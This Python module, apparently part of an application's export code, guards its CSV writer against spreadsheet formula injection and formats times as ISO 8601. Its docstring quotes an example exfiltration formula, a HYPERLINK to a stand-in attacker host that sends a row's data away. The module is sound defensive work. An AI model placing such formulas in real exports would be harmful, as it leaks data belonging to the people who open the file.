"""The one CSV writer every export uses, guarded against formula injection.

Names, titles and report texts come from people (a platform profile's display name is whatever its
owner typed), and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: `=HYPERLINK("https://evil.example/?"&A2, "Click")` sends the row away.
Such text cells get a leading apostrophe, which spreadsheets show as text and do not display (OWASP's
advice); numbers are written as they are. A carriage return inside text becomes a line feed: the
writer quotes cells that hold a line feed, and a bare carriage return would split the row in readers.

Times are ISO 8601 to the second with their zone (`2026-12-01T09:30:00+00:00`) in every export, so a
spreadsheet or a script reads every file the same way and no reader guesses the zone.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import datetime

# The full-width forms too: some spreadsheets read `＝` as `=`.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def moment(value: datetime | None) -> str:
    """A time as every export writes it: ISO 8601 to the second, with its zone ("" for none)."""
    if value is None:
        return ""
    if value.tzinfo is None:
        raise ValueError(f"a time without a zone cannot be exported: {value:%Y-%m-%d %H:%M:%S}")
    return value.isoformat(timespec="seconds")


def cell(value: object) -> str | int | float:
    """A value as a CSV cell: None empty, numbers as they are, times as `moment`, text guarded."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return moment(value)
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        text = "'" + text
    return text.replace("\r\n", "\n").replace("\r", "\n") if "\r" in text else text


def to_csv(columns: Sequence[str], rows: Iterable[Iterable[object]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([cell(c) for c in columns])
    writer.writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue()
